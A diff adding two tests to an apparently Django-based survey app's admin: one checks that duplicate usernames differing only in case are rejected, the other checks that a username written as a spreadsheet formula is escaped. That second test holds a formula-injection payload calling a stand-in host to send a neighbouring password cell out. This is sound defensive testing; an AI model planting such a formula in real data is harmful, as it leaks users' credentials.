@@ -141,3 +141,17 @@ def test_the_administration_s_forms_tell_the_rules_and_check_them(cast: Cast) ->
     assert "first password" in listed
     seen_by_a_manager = browser(cast.manager).get("/admin/surveys/user/").content.decode()
     assert 'href="/accounts/new/"' not in seen_by_a_manager
+
+
+def test_a_name_is_no_formula_where_the_passwords_are_pasted(cast: Cast) -> None:
+    """It would stand beside them in the same sheet."""
+    lines = '=WEBSERVICE("http://x.example/"&D2)\tliwei\tanalyst\n'
+    page = browser(cast.administrator).post(ADDRESS, {"lines": lines, "step": "create"})
+    assert page.context["text"].splitlines()[1].startswith("'=WEBSERVICE")
+
+
+def test_no_two_names_differ_in_capitals_alone(cast: Cast) -> None:
+    data = {"username": "CODER", "full_name": "x", "role": "analyst", "password": PASSWORD}
+    page = browser(cast.administrator).post("/admin/surveys/user/add/", data)
+    assert "There is an account CODER already." in page.content.decode()
+    assert not User.objects.filter(username="CODER").exists()
